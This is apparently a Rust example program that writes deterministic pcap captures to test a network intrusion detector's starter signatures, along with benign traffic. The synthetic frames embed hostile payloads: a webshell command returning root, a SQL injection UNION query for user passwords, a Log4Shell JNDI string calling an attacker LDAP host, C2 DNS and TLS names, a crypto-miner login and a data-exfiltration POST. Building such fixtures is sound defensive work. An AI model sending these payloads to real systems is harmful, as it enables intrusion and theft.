//! Writes the bundled captures in `pcaps/`: one per starter signature, plus benign traffic that
//! must raise nothing. Deterministic: the same bytes on every run (a test checks the committed
//! files against this generator).
//!
//! Run: `cargo run --example make_pcaps [-- OUT_DIR]` (default `pcaps`).

use std::net::Ipv4Addr;
use std::path::PathBuf;

use sekimori::testgen::synth::{
    dns_query, tls_client_hello, udp_frame, write_pcap, Frame, TcpSession,
};

const T0: i64 = 1_764_000_000_000_000; // 2025-11-24T16:00:00Z

fn ip(a: u8, b: u8, c: u8, d: u8) -> Ipv4Addr {
    Ipv4Addr::new(a, b, c, d)
}

fn http_get(host: &str, path: &str, extra: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n{extra}\r\n").into_bytes()
}

/// The bundled captures: file name and frames.
pub fn scenarios() -> Vec<(&'static str, Vec<Frame>)> {
    let attacker = ip(203, 0, 113, 66);
    let web = ip(10, 10, 1, 20);
    let ws = ip(192, 168, 5, 10);
    let mut out = Vec::new();

    let mut s = TcpSession::open((attacker, 51_000), (web, 8080), T0);
    s.send(
        true,
        b"POST /cgi-bin/run HTTP/1.1\r\nHost: app\r\nContent-Length: 2\r\n\r\nid",
    )
    .send(
        false,
        b"HTTP/1.1 200 OK\r\nContent-Length: 39\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n",
    );
    out.push(("webshell-root.pcap", s.close()));

    let mut s = TcpSession::open((attacker, 51_001), (web, 80), T0 + 10_000_000);
    s.send(
        true,
        &http_get(
            "shop.example",
            "/item.php?id=1%20UnIoN%20ALL%20SeLeCt%20user,pass%20FROM%20users",
            "",
        ),
    )
    .send(
        false,
        b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n",
    );
    out.push(("sqli-union.pcap", s.close()));

    let mut s = TcpSession::open((attacker, 51_002), (web, 8443), T0 + 20_000_000);
    s.send(
        true,
        &http_get(
            "api.example",
            "/",
            "X-Api-Version: ${jndi:ldap://203.0.113.66:1389/Exploit}\r\n",
        ),
    )
    .send(
        false,
        b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n",
    );
    out.push(("log4shell.pcap", s.close()));

    let q = dns_query(0x4b1d, "update.BAD-C2.example");
    out.push((
        "dns-c2.pcap",
        vec![(
            T0 + 30_000_000,
            udp_frame((ws, 53_001), (ip(10, 10, 0, 53), 53), &q),
        )],
    ));

    let mut s = TcpSession::open((ws, 49_152), (ip(198, 51, 100, 7), 3333), T0 + 40_000_000);
    s.send(true, br#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x","agent":"XMRig/6.21.0"}}"#)
        .send(false, br#"{"id":1,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}"#);
    out.push(("stratum-miner.pcap", s.close()));

    let mut s = TcpSession::open((ws, 49_153), (ip(198, 51, 100, 9), 80), T0 + 50_000_000);
    s.send(
        true,
        b"POST /upload HTTP/1.1\r\nHost: drop.example\r\nContent-Length: 11\r\n\r\nsecret=data",
    )
    .send(false, b"HTTP/1.1 204 No Content\r\n\r\n");
    out.push(("post-no-ua.pcap", s.close()));

    // TLS to a known command-and-control name (the SNI is all a sensor sees of HTTPS).
    let mut s = TcpSession::open((ws, 49_154), (ip(198, 51, 100, 66), 443), T0 + 55_000_000);
    s.send(true, &tls_client_hello("login.evil-c2.example"));
    out.push(("tls-c2-sni.pcap", s.close()));

    // Benign: browsing (one page mentions "union", none a SELECT), an ordinary POST with a
    // User-Agent, and DNS for ordinary names.
    let mut frames = Vec::new();
    let mut s = TcpSession::open((ws, 49_200), (ip(198, 51, 100, 20), 80), T0 + 60_000_000);
    s.send(
        true,
        &http_get("news.example", "/world/european-union-summit", ""),
    )
    .send(
        false,
        b"HTTP/1.1 200 OK\r\nContent-Length: 25\r\n\r\n<html>EU summit...</html>",
    );
    frames.extend(s.close());
    let mut s = TcpSession::open((ws, 49_201), (ip(198, 51, 100, 21), 80), T0 + 61_000_000);
    s.send(true, b"POST /form HTTP/1.1\r\nHost: forms.example\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: 7\r\n\r\nname=ok")
        .send(false, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
    frames.extend(s.close());
    let mut s = TcpSession::open((ws, 49_202), (ip(198, 51, 100, 22), 443), T0 + 61_500_000);
    s.send(true, &tls_client_hello("www.example.com"));
    frames.extend(s.close());
    for (i, name) in [
        "www.example.com",
        "mail.example.org",
        "c2-monitoring.example",
    ]
    .iter()
    .enumerate()
    {
        let q = dns_query(0x1000 + i as u16, name);
        frames.push((
            T0 + 62_000_000 + i as i64 * 1000,
            udp_frame((ws, 53_100 + i as u16), (ip(10, 10, 0, 53), 53), &q),
        ));
    }
    frames.sort_by_key(|(ts, _)| *ts);
    out.push(("benign-web.pcap", frames));
    out
}

fn main() -> std::io::Result<()> {
    let dir = std::env::args()
        .nth(1)
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("pcaps"));
    std::fs::create_dir_all(&dir)?;
    for (name, frames) in scenarios() {
        let path = dir.join(name);
        write_pcap(&path, &frames)?;
        println!("{}: {} packets", path.display(), frames.len());
    }
    Ok(())
}
